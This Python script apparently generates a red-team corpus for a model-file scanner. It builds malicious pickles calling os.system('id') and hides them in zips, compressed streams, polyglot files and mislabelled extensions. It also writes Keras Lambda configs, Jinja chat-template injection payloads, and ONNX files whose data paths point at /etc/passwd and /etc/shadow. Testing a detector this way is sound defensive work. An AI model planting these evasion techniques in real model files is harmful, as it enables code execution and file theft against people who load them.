#!/usr/bin/python3
"""A third red-team corpus for model-scan (issue 13): independent variants of each root cause, built by a reviewer
who did not write generate.py or generate_more.py (whose assembler and pickletools labeller it reuses).

Run with Debian's python3 (python3-h5py; the zstd and lz4 command-line tools for those frames):

    /usr/bin/python3 test/model-scan/redteam/generate_extra.py

Writes test/model-scan/redteam/corpus-extra/malicious/... and manifest-extra.json, read by redteam.test.ts with
the other two manifests. Same rules: deterministic, nothing is ever unpickled, streams are assembled opcode by
opcode and labelled with the globals pickletools.genops sees in the streams the loader reads.

What is here: the first opcodes and line arguments `_pickle` accepts (a MARK popped by POP, PROTO 0/1 and PROTO
in the middle, FRAMEs shorter than the opcodes they hold and nested, `I`/`F` lines cut by a NUL, `I0x10`/`I0o17`/
`I0b101` that C strtol or int(x, 0) read, STRING/UNICODE escapes), Python 2 names `fix_imports` maps below protocol 3
(`commands.getoutput`, `cPickle.loads`), a second pickle after a benign one, torch zips with any folder name
(spaces, non-ASCII, `..`, `.`), bzip2 and LZMA zip members, constants.pkl and extra .pkl members, end records that count fewer entries than the directory holds, every compression
wrapper twice and inside bzip2, multi-stream xz/bzip2/gzip and multi-frame zstd/lz4 with skippable frames between
them, pickles across HDF5/ustar/zip/GGUF signatures, zips that end a safetensors, GGUF, tar or compressed file (Python's
zipfile reads them after any prefix), Keras configs in every JSON encoding and h5py attribute type,
chat templates with `map('attr', ...)` (the attr filter applied by name), ONNX external data outside the model
folder from attribute tensors in subgraphs and local functions and from sparse initializers and attributes, and unverifiable bytes under the model
extensions TensorFlow, TorchServe and NeMo use (.pb, .mar, .nemo).

Where pickletools is stricter than `_pickle` (it reads `I` lines with int(x), not strtol(x, 0) then int(x, 0)), the
label comes from the stream after that opcode, which the loader goes on to read (`note` says so).
"""
import bz2
import gzip
import importlib.util
import io
import json
import lzma
import os
import shutil
import struct
import subprocess
import tarfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location('redteam_generate', os.path.join(HERE, 'generate.py'))
G = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(G)

OUT = os.path.join(HERE, 'corpus-extra')
MANIFEST = []
NAMES = set()
s_, frame = G.s_, G.frame

E0 = b"cos\nsystem\n(S'id'\ntR."
SG = s_('c8c', 'os') + s_('c8c', 'system') + b'\x93' + s_('c8c', 'id') + b'\x85R.'
PAD0 = b"S'" + b'A' * 300 + b"'\n0" + E0
BENIGN = b'\x80\x02}q\x00.'
NONPICKLE = G.NONPICKLE | {'onnx-external-data'}


def write(rel, data):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'wb') as f:
        f.write(data)


def mal(rel, data, cause, streams=None, expect=('os.system',), note=None, expand=None):
    assert rel not in NAMES, rel
    NAMES.add(rel)
    streams = [data] if streams is None else streams
    if cause in NONPICKLE:
        expect = ()
    got = []
    for s in streams:
        g, _, _ = G.imports_of(s, multi=True)
        got += g
    got = G.uniq(got)
    for e in expect or ():
        assert e in got, (rel, e, got)
    assert got or cause in NONPICKLE, (rel, 'genops found no import')
    write('malicious/' + rel, data)
    entry = {'file': 'malicious/' + rel, 'kind': 'malicious', 'cause': cause, 'globals': got}
    if note:
        entry['note'] = note
    if expand:
        entry['expand'] = expand
    MANIFEST.append(entry)


def tool(cmd, data):
    return subprocess.run(cmd, input=data, stdout=subprocess.PIPE, check=True).stdout


def u64(n):
    return struct.pack('<Q', n)


# --------------------------------------------------------------------------------------------------------
# 1. First opcodes and line arguments _pickle accepts, under names that are not a pickle's
# --------------------------------------------------------------------------------------------------------
def first_opcodes():
    cases = {
        'mark-then-pop': (b'(0' + E0, None),  # load_pop pops a MARK on top of the stack
        'mark-then-pop-mark': (b'(1' + E0, None),
        'unclosed-mark': (b'(I1\n' + E0, None),  # STOP returns the top; a MARK below it is never checked
        'proto0': (b'\x80\x00' + E0, None),
        'proto1': (b'\x80\x01' + E0, None),
        'proto-in-the-middle': (b'I1\n0\x80\x02' + SG, None),
        'frame-zero-first': (b'\x95' + u64(0) + E0, None),
        'frame-shorter-than-opcodes': (b'\x95' + u64(3) + SG, None),  # _pickle checks only that the bytes exist
        'proto4-frame-shorter': (b'\x80\x04\x95' + u64(5) + SG, None),
        'frame-in-frame': (frame(frame(SG)), None),
        'second-pickle-after-none': (b'N.' + E0, None),
        'second-pickle-after-int': (b'I1\n.' + E0, None),
        'second-pickle-after-binint': (b'\x80\x04K\x01.' + SG, None),
        'float-nan': (b'Fnan\n0' + E0, None),
        'float-minus-infinity': (b'F-Infinity\n0' + E0, None),
        'float-dot5': (b'F.5\n0' + E0, None),
        'int-trailing-space': (b'I12 \n0' + E0, None),
        'int-leading-tab': (b'I\t12\n0' + E0, None),
        'long-leading-space': (b'L -5\n0' + E0, None),
        'long-no-suffix-big': (b'L123456789012345678901234567890\n0' + E0, None),
        'string-double-quoted-escapes': (b'S"\\x41\\n\\\'"\n0' + E0, None),
        'string-octal-escapes': (b"S'\\101\\0'\n0" + E0, None),
        'unicode-escapes': (b'V\\u0041\\U0001F600\n0' + E0, None),
        'unicode-latin1-bytes': (b'V\xe9\xff\n0' + E0, None),
        'persid-then-pop-mark': (b'(Pfoo\n1' + E0, None),
        'dup-first': (b'N20' + E0, None),
        'empty-set-first': (b'\x8f0' + E0, None),
        'bytes8-first': (b'\x8e' + u64(1) + b'x0' + E0, None),
        'bytearray8-first': (b'\x96' + u64(1) + b'x0' + E0, None),
        'memoize-first': (b'N\x940' + E0, None),
        'newtrue-first': (b'\x880' + E0, None),
        'long1-first': (b'\x8a\x01\x050' + E0, None),
        'long4-first': (b'\x8b\x01\x00\x00\x00\x050' + E0, None),
        'binfloat-first': (b'G' + b'\0' * 8 + b'0' + E0, None),
        # pickletools reads these with int(x): the label is the stream the loader reads after the line
        'int-hex': (b'I0x10\n0' + E0, 'load_int: strtol(s, 0) reads 0x10'),
        'int-octal-prefix': (b'I0o17\n0' + E0, 'load_int: strtol stops at o, then int("0o17", 0)'),
        'int-binary-prefix': (b'I0b101\n0' + E0, 'load_int: strtol stops at b, then int("0b101", 0)'),
        'int-cut-by-nul': (b'I1\x00junk\n0' + E0, 'load_int: strtol stops at the NUL, which ends the C string'),
        'float-cut-by-nul': (b'F1.5\x00junk\n0' + E0, 'load_float: PyOS_string_to_double stops at the NUL'),
    }
    for name, (data, note) in cases.items():
        streams = [data[data.index(b'\n0') + 2:]] if note else None
        for ext in ('.txt', '.md', '.json', ''):
            mal(f'first-opcode/{name}{ext or "-noext"}', data, 'detection-first-opcode', streams=streams, note=note)
    # the dangerous part far from the start
    for size in (70, 5000):
        mal(f'padding/string-{size}.csv', b"S'" + b'A' * size + b"'\n0" + E0, 'detection-padding')
        mal(f'padding/unicode-{size}.md', b'V' + b'A' * size + b'\n0' + E0, 'detection-padding')
    mal('padding/short-binbytes-nohdr.txt', b'C\xff' + b'A' * 255 + b'0' + SG, 'detection-padding')
    big = b'B' + struct.pack('<I', 16) + b'A' * 16 + b'0' + SG
    mal('padding/binbytes-2MiB-nohdr.txt', big, 'detection-padding',
        expand={'at': 5, 'count': 2 << 20, 'fill': 'A', 'len_at': 1, 'len_size': 4}, note='2 MiB BINBYTES first')


# --------------------------------------------------------------------------------------------------------
# 2. Ways to reach a callable: Python 2 names fix_imports maps (protocol < 3), INST/OBJ/NEWOBJ_EX, chains
# --------------------------------------------------------------------------------------------------------
def reach():
    mal('reach/fix-imports-commands.txt', b"ccommands\ngetoutput\n(S'id'\ntR.", 'reach-callable',
        expect=('commands.getoutput',), note='fix_imports maps commands to subprocess')
    mal('reach/fix-imports-cpickle-loads.txt', b"ccPickle\nloads\n(S'x'\ntR.", 'reach-callable',
        expect=('cPickle.loads',), note='fix_imports maps cPickle to pickle')
    mal('reach/inst-p0.dat', b"(S'id'\nios\nsystem\n.", 'reach-callable')
    mal('reach/obj-p1.dat', b"(cos\nsystem\nS'id'\no.", 'reach-callable')
    mal('reach/newobj-ex.dat', b'\x80\x04' + s_('c8c', 'os') + s_('c8c', 'system') + b'\x93)}\x92.', 'reach-callable')
    mal('reach/getattr-import.dat',
        b'\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\n' + s_('X', 'os') + b'\x85R' + s_('X', 'system')
        + b'\x86R' + s_('X', 'id') + b'\x85R.', 'reach-callable', expect=('builtins.getattr',))
    mal('reach/attrgetter.dat', b'\x80\x02coperator\nattrgetter\n' + s_('X', 'os.system') + b'\x85R.',
        'reach-callable', expect=('operator.attrgetter',))
    mal('reach/methodcaller.dat', b'\x80\x02c_operator\nmethodcaller\n' + s_('X', 'system') + s_('X', 'id')
        + b'\x86R.', 'reach-callable', expect=('_operator.methodcaller',))


# --------------------------------------------------------------------------------------------------------
# 3. Containers: torch zips with any folder name, zip member methods, extra pickles; compression wrappers
# --------------------------------------------------------------------------------------------------------
def zipped(members, method=zipfile.ZIP_STORED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w', method) as z:
        for n, d in members:
            z.writestr(zipfile.ZipInfo(n, (1980, 1, 1, 0, 0, 0)), d, compress_type=method)
    return bio.getvalue()


def containers():
    for folder, tag in (('archive', 'archive'), ('a b', 'space'), ('\u00fc', 'non-ascii'), ('..', 'dotdot'),
                        ('.', 'dot'), ('x/y', 'nested')):
        for method, mtag in ((zipfile.ZIP_STORED, 'stored'), (zipfile.ZIP_DEFLATED, 'deflated')):
            mal(f'torch-zip/{tag}-{mtag}.pt', zipped([(f'{folder}/version', b'3\n'), (f'{folder}/data/0', b'\0' * 16),
                                                      (f'{folder}/data.pkl', PAD0)], method),
                'container-torch-zip', streams=[PAD0])
    mal('torch-zip/bzip2-member.pt', zipped([('archive/data.pkl', SG)], zipfile.ZIP_BZIP2), 'container-torch-zip',
        streams=[SG])
    mal('torch-zip/lzma-member.pt', zipped([('archive/data.pkl', SG)], zipfile.ZIP_LZMA), 'container-torch-zip',
        streams=[SG])
    mal('torch-zip/constants-pkl.pt', zipped([('archive/data.pkl', BENIGN), ('archive/constants.pkl', SG)]),
        'container-torch-zip', streams=[SG])
    mal('torch-zip/extra-pkl.pt', zipped([('archive/data.pkl', BENIGN), ('archive/extra.pkl', PAD0)]),
        'container-torch-zip', streams=[PAD0])
    mal('torch-zip/duplicate-benign-first.pt', zipped([('archive/data.pkl', BENIGN), ('archive/data.pkl', SG)]),
        'container-torch-zip-duplicate', streams=[SG])
    mal('torch-zip/duplicate-benign-last.pt', zipped([('archive/data.pkl', PAD0), ('archive/data.pkl', BENIGN)]),
        'container-torch-zip-duplicate', streams=[PAD0])
    # an end-of-central-directory record that counts fewer entries than its directory holds: Python's zipfile reads
    # the directory by its size (every entry), miniz by the count
    def undercount(z, n):
        z = bytearray(z)
        i = z.rfind(b'PK\x05\x06')
        struct.pack_into('<HH', z, i + 8, n, n)
        return bytes(z)
    for n in (0, 1):
        data = undercount(zipped([('archive/version', b'3\n'), ('archive/data.pkl', SG)]), n)
        assert zipfile.ZipFile(io.BytesIO(data)).namelist() == ['archive/version', 'archive/data.pkl']
        mal(f'torch-zip/eocd-counts-{n}.zip', data, 'container-torch-zip', streams=[SG])
    wrappers = (
        ('gz', lambda d: gzip.compress(d, mtime=0)),
        ('bz2', bz2.compress),
        ('xz', lzma.compress),
        ('zlib', zlib.compress),
        ('lzma-alone', lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE)),
        ('zstd', lambda d: tool(['zstd', '-q', '-c'], d)),
        ('lz4', lambda d: tool(['lz4', '-q', '-c'], d)),
    )
    for tag, f in wrappers:
        mal(f'compressed/{tag}.txt', f(PAD0), 'container-compression', streams=[PAD0])
        mal(f'compressed/{tag}-of-gzip.json', f(gzip.compress(PAD0, mtime=0)), 'container-compression', streams=[PAD0])
        mal(f'compressed/{tag}-in-bzip2', bz2.compress(f(PAD0)), 'container-compression', streams=[PAD0])
    two = b'\x80\x04', SG
    skip = struct.pack('<II', 0x184D2A5E, 5) + b'hello'
    zst = lambda d: tool(['zstd', '-q', '-c'], d)  # noqa: E731
    lz4 = lambda d: tool(['lz4', '-q', '-c'], d)  # noqa: E731
    multi = {
        'xz-two-streams.joblib': lzma.compress(two[0]) + lzma.compress(two[1]),
        'bzip2-two-streams.joblib': bz2.compress(two[0]) + bz2.compress(two[1]),
        'gzip-two-members.txt': gzip.compress(two[0], mtime=0) + gzip.compress(two[1], mtime=0),
        'zstd-two-frames.txt': zst(two[0]) + zst(two[1]),
        'zstd-skippable-first.txt': skip + zst(b''.join(two)),
        'zstd-skippable-between.txt': zst(two[0]) + skip + zst(two[1]),
        'lz4-two-frames.txt': lz4(two[0]) + lz4(two[1]),
        'lz4-skippable-first.txt': skip + lz4(b''.join(two)),
        'lz4-skippable-between.txt': lz4(two[0]) + skip + lz4(two[1]),
        'xz-stream-padding.txt': lzma.compress(b''.join(two)) + b'\0' * 8 + lzma.compress(b''),
    }
    for name, data in multi.items():
        mal(f'compressed/{name}', data, 'container-compression', streams=[b''.join(two)])
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode='w', format=tarfile.PAX_FORMAT) as t:
        ti = tarfile.TarInfo('x.csv')
        ti.size = len(PAD0)
        ti.mtime = 0
        t.addfile(ti, io.BytesIO(PAD0))
    mal('tar/pax-member.txt', bio.getvalue(), 'container-tar', streams=[PAD0])
    mal('tar/pax-member-gzip.tgz', gzip.compress(bio.getvalue(), mtime=0), 'container-tar', streams=[PAD0])


def ben(rel, data, cause):
    assert rel not in NAMES, rel
    NAMES.add(rel)
    write('benign/' + rel, data)
    MANIFEST.append({'file': 'benign/' + rel, 'kind': 'benign', 'cause': cause})


def safetensors_with(data):
    """A consistent safetensors file whose one U8 tensor holds `data`."""
    h = json.dumps({'t': {'dtype': 'U8', 'shape': [len(data)], 'data_offsets': [0, len(data)]}}).encode()
    h += b' ' * (-len(h) % 8)
    return u64(len(h)) + h + data


def gguf_with(data):
    """A GGUF v3 file with one I8 tensor (type 24) holding `data`, aligned to 32 bytes."""
    def gs(x):
        return u64(len(x)) + x.encode()
    head = b'GGUF' + struct.pack('<I', 3) + u64(1) + u64(0)
    head += gs('t') + struct.pack('<I', 1) + u64(len(data)) + struct.pack('<I', 24) + u64(0)
    return head + b'\0' * (-len(head) % 32) + data


def tar_of(members):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode='w', format=tarfile.GNU_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            t.addfile(ti, io.BytesIO(data))
    return bio.getvalue()


# --------------------------------------------------------------------------------------------------------
# 4. Polyglots and lying extensions
# --------------------------------------------------------------------------------------------------------
def polyglots():
    # UNICODE, not STRING: _pickle decodes STRING as ASCII, and the HDF5 signature is not ASCII
    long = b'V' + b'B' * 600 + b'\n0' + E0
    hdf = bytearray(long)
    hdf[512:516] = b'\x89HDF'  # the signature h5py looks for at 512 (its full 8 bytes hold a newline)
    mal('polyglot/hdf5-at-512.h5', bytes(hdf), 'polyglot-signature')
    ust = bytearray(long)
    ust[257:262] = b'ustar'
    mal('polyglot/ustar-at-257.tar', bytes(ust), 'polyglot-signature')
    mal('polyglot/zip-appended.npz', PAD0 + zipped([('a.npy', b'x')]), 'polyglot-signature', streams=[PAD0])
    mal('polyglot/benign-pickle-before-zip.pt', BENIGN + zipped([('archive/data.pkl', PAD0)]), 'polyglot-signature',
        streams=[PAD0])
    mal('polyglot/gguf-magic.gguf', b'GGUF\x03\x00\x00\x00' + b'0' + E0, 'polyglot-signature')
    # a zip that ends a safetensors or GGUF file (as its last tensor's data) or follows a tar's end-of-archive
    # blocks: Python's zipfile reads it after any prefix (Keras .keras, pandas' zip compression)
    torch_zip = zipped([('archive/data.pkl', SG)])
    lam = {'class_name': 'Sequential', 'config': {'layers': [{'class_name': 'Lambda', 'config': {
        'name': 'l', 'function': ['4wEAAAAAAAAA', '', None], 'function_type': 'lambda'}}]}}
    keras_zip = zipped([('config.json', json.dumps(lam).encode()), ('metadata.json', b'{}')])
    for tag, z, cause, streams in (('torch', torch_zip, 'polyglot-signature', [SG]),
                                   ('keras', keras_zip, 'keras-config', None)):
        for ext in ('.keras', '.zip'):
            for front, data in (('safetensors', safetensors_with(z)), ('gguf', gguf_with(z)),
                                ('tar', tar_of([('a.txt', b'abc')]) + z)):
                assert zipfile.ZipFile(io.BytesIO(data)).namelist() == zipfile.ZipFile(io.BytesIO(z)).namelist()
                mal(f'polyglot/{front}-then-{tag}-zip{ext}', data, cause, streams=streams)
    # a zip after a compressed stream: the decompressors stop at the stream's end (zlib and raw LZMA without an error)
    for tag, f in (('zlib', zlib.compress), ('lzma-alone', lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE)),
                   ('gzip', lambda d: gzip.compress(d, mtime=0)), ('xz', lzma.compress), ('bzip2', bz2.compress),
                   ('zstd', lambda d: tool(['zstd', '-q', '-c'], d))):
        data = f(BENIGN) + keras_zip
        assert zipfile.ZipFile(io.BytesIO(data)).namelist() == ['config.json', 'metadata.json']
        mal(f'polyglot/{tag}-then-keras-zip.keras', data, 'keras-config')
    # benign: a tar whose last member is a zip (the zip's directory is inside the tar, not after it)
    ben('polyglot/tar-with-zip-member.tar', tar_of([('model.pt', zipped([('archive/data.pkl', BENIGN)]))]),
        'plain-data')
    for ext in ('.safetensors', '.onnx', '.pb', '.mar', '.nemo', '.h5', '.gguf', '.npy', '.keras'):
        mal(f'extension/padded{ext}', PAD0, 'lying-extension')


# --------------------------------------------------------------------------------------------------------
# 5. Not pickles: Keras configs in every JSON encoding, chat templates, unverifiable model files
# --------------------------------------------------------------------------------------------------------
def non_pickles():
    import h5py
    import numpy as np
    lam = {'class_name': 'Lambda', 'config': {'name': 'l', 'function': ['4wEAAAAAAAAA', '', None],
                                              'function_type': 'lambda'}}
    nested = {'class_name': 'Sequential', 'config': {'name': 's', 'layers': [
        {'class_name': 'Bidirectional', 'config': {'layer': {'class_name': 'TimeDistributed',
                                                              'config': {'layer': lam}}}}]}}
    keras_cfg = zipped([('metadata.json', b'{}'), ('config.json', json.dumps(nested).encode())])
    for n in (0, 1):
        z = bytearray(keras_cfg)
        struct.pack_into('<HH', z, z.rfind(b'PK\x05\x06') + 8, n, n)
        assert zipfile.ZipFile(io.BytesIO(bytes(z))).namelist() == ['metadata.json', 'config.json']
        mal(f'keras/eocd-counts-{n}.keras', bytes(z), 'keras-config')
    for enc in ('utf-16-le', 'utf-16-be', 'utf-32-le', 'utf-32-be', 'utf-16', 'utf-32', 'utf-8-sig'):
        mal(f'keras/config-{enc}.keras', zipped([('config.json', json.dumps(nested).encode(enc)),
                                                 ('metadata.json', b'{}')]), 'keras-config')
    cfg = json.dumps(nested, indent=2).replace('"class_name": ', '"class_name" :  ')
    attrs = {
        'vlen-str': lambda f: f.attrs.__setitem__('model_config', cfg),
        'fixed-bytes': lambda f: f.attrs.create('model_config', np.bytes_(cfg.encode())),
        'vlen-bytes': lambda f: f.attrs.create('model_config', cfg.encode(), dtype=h5py.special_dtype(vlen=bytes)),
    }
    for tag, set_attr in attrs.items():
        path = os.path.join(OUT, 'malicious', 'keras', f'h5-{tag}.h5')
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with h5py.File(path, 'w', libver='earliest') as f:
            set_attr(f)
            f.create_dataset('w', data=np.zeros(4), track_times=False)
        with open(path, 'rb') as fh:
            data = fh.read()
        os.remove(path)
        mal(f'keras/h5-{tag}.h5', data, 'keras-config')
    templates = (
        "{{ tools|map('attr', messages[0].content)|list }}",
        "{% set n = '_' ~ '_class__' %}{{ tools|map('attr', n)|list }}",
        "{{ tools|map('at' ~ 'tr', '_' ~ '_init__')|list }}",
        "{{ tools|map(messages[0].role, 'x')|list }}",
        "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
        "{{ ''|attr('%c%c%c%c%c%c%c%c%c'|format(95,95,99,108,97,115,115,95,95)) }}",
        "{% set u = (()|select|string)[24] %}{{ ''|attr(u~u~'class'~u~u) }}",
        "{{ ''|attr(dict(__cl=1,ass__=1)|join) }}",
        "{{ ''|attr('__ssalc__'|reverse) }}",
        "{% set f = '{0.' ~ 'x' ~ '}' %}{{ f.format(messages) }}",
        "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}",
    )
    for i, t in enumerate(templates):
        mal(f'templates/extra-{i}/tokenizer_config.json', json.dumps({'chat_template': t}).encode(), 'template-ssti')
    # json.dumps writes bare NaN/Infinity, which json.loads (transformers) reads back: the template is still used
    mal('templates/beside-nan/tokenizer_config.json',
        json.dumps({'x': float('nan'), 'chat_template': templates[0], 'y': float('inf')}).encode(), 'template-ssti')
    # a dict of named templates: transformers keeps it and renders "default" or the one asked for
    mal('templates/dict-form/tokenizer_config.json',
        json.dumps({'chat_template': {'default': '{{ messages }}', 'tool_use': templates[4]}}).encode(), 'template-ssti')
    ben('json/trainer_state.json', json.dumps({'log_history': [{'loss': float('nan'), 'grad_norm': float('inf'),
                                                                 'step': 1}], 'best_metric': None}).encode(),
        'plain-data')
    junk = bytes([0xde, 0xad, 0xbe, 0xef, 1, 2, 3, 0xff, 0x10])
    # an HDF5 signature with no HDF5 structure after it: h5py refuses it, so nothing in it was verified
    sig = b'\x89HDF\r\n\x1a\n'
    for tag, data in (('zeros', sig + b'\0' * 100), ('junk', sig + bytes((i * 97 + 13) & 0xff for i in range(600))),
                      ('signature-only', sig)):
        for ext in ('.h5', '.bin', '.txt'):
            mal(f'malformed/hdf5-{tag}{ext}', data, 'malformed-format')
    for ext in ('.pb', '.mar', '.nemo'):
        mal(f'unverifiable/empty{ext}', b'', 'unverifiable-model-file')
        mal(f'unverifiable/random{ext}', junk, 'unverifiable-model-file')
        mal(f'unverifiable/text{ext}', b'just some notes\n', 'unverifiable-model-file')


def onnx_external():
    """ONNX tensors stored outside the model folder, in every place a tensor can be: attribute tensors of nodes in
    subgraphs and model-local functions, sparse initializers and sparse attributes (onnxruntime reads their external
    data too)."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    def ext(name, loc):
        t = numpy_helper.from_array(np.zeros(4, dtype=np.float32), name)
        t.ClearField('raw_data')
        t.data_location = TensorProto.EXTERNAL
        e = t.external_data.add()
        e.key, e.value = 'location', loc
        return t

    def idx(name):
        return numpy_helper.from_array(np.array([0], dtype=np.int64), name)

    x = helper.make_tensor_value_info('x', TensorProto.FLOAT, [4])
    y = helper.make_tensor_value_info('y', TensorProto.FLOAT, [4])
    models = {}
    models['constant-attribute'] = helper.make_model(helper.make_graph(
        [helper.make_node('Constant', [], ['c'], value=ext('c', '../../etc/passwd')),
         helper.make_node('Add', ['x', 'c'], ['y'])], 'g', [x], [y]))
    then_b = helper.make_graph([helper.make_node('Constant', [], ['t'], value=ext('t', '/etc/passwd'))], 'then', [],
                               [helper.make_tensor_value_info('t', TensorProto.FLOAT, [4])])
    else_b = helper.make_graph([helper.make_node('Identity', ['x'], ['e'])], 'else', [],
                               [helper.make_tensor_value_info('e', TensorProto.FLOAT, [4])])
    models['if-subgraph'] = helper.make_model(helper.make_graph(
        [helper.make_node('If', ['cond'], ['y'], then_branch=then_b, else_branch=else_b)], 'g',
        [helper.make_tensor_value_info('cond', TensorProto.BOOL, []), x], [y]))
    models['sparse-initializer'] = helper.make_model(helper.make_graph(
        [helper.make_node('Identity', ['x'], ['y'])], 'g', [x], [y],
        sparse_initializer=[helper.make_sparse_tensor(ext('sv', 'sub/../../secret'), idx('si'), [4])]))
    models['sparse-attribute'] = helper.make_model(helper.make_graph(
        [helper.make_node('Constant', [], ['y'],
                          sparse_value=helper.make_sparse_tensor(ext('sa', '../../etc/shadow'), idx('sai'), [4]))],
        'g', [], [y]))
    fn = helper.make_function('local', 'F', ['a'], ['b'],
                              [helper.make_node('Constant', [], ['k'], value=ext('k', '../weights.bin')),
                               helper.make_node('Add', ['a', 'k'], ['b'])], [helper.make_opsetid('', 13)])
    models['function-body'] = helper.make_model(
        helper.make_graph([helper.make_node('F', ['x'], ['y'], domain='local')], 'g', [x], [y]), functions=[fn],
        opset_imports=[helper.make_opsetid('', 13), helper.make_opsetid('local', 1)])
    for tag, m in models.items():
        mal(f'onnx-external/{tag}/model.onnx', m.SerializeToString(), 'onnx-external-data')


def main():
    shutil.rmtree(OUT, ignore_errors=True)
    first_opcodes()
    reach()
    containers()
    polyglots()
    non_pickles()
    onnx_external()
    with open(os.path.join(HERE, 'manifest-extra.json'), 'w') as f:
        json.dump(MANIFEST, f, indent=0, sort_keys=True)
        f.write('\n')
    print(f'{len(MANIFEST)} files')


if __name__ == '__main__':
    main()
